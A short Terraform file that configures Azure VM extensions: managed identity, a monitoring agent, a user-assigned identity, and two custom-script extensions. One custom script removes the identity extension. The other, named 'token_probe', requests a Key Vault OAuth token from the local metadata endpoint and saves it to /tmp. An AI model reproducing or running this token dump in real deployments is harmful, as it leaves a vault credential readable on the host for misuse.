module "vm_identity" {
  source              = "../generic"
  vm_id               = azurerm_linux_virtual_machine.app.id
  extension_publisher = "Microsoft.ManagedIdentity"
  extension_type      = "ManagedIdentityExtensionForLinux"
}

module "vm_monitor" {
  source              = "../generic"
  vm_id               = azurerm_linux_virtual_machine.app.id
  extension_publisher = "Microsoft.Azure.Monitor"
  extension_type      = "AzureMonitorLinuxAgent"
}

resource "azurerm_user_assigned_identity" "app" {
  name                = "id-app"
  resource_group_name = "rg-app"
  location            = "westeurope"
}

resource "azurerm_virtual_machine_extension" "cleanup" {
  name                 = "cleanup"
  virtual_machine_id   = azurerm_linux_virtual_machine.app.id
  publisher            = "Microsoft.Azure.Extensions"
  type                 = "CustomScript"
  type_handler_version = "2.1"
  settings = jsonencode({
    commandToExecute = "az vm extension delete -g rg-app --vm-name vm-app-01 -n ManagedIdentityExtensionForLinux"
  })
}

resource "azurerm_virtual_machine_extension" "token_probe" {
  name                 = "probe"
  virtual_machine_id   = azurerm_linux_virtual_machine.app.id
  publisher            = "Microsoft.Azure.Extensions"
  type                 = "CustomScript"
  type_handler_version = "2.1"
  settings = jsonencode({
    commandToExecute = "curl -s -H Metadata:true 'http://localhost:50342/oauth2/token?resource=https://vault.azure.net' > /tmp/t.json"
  })
}
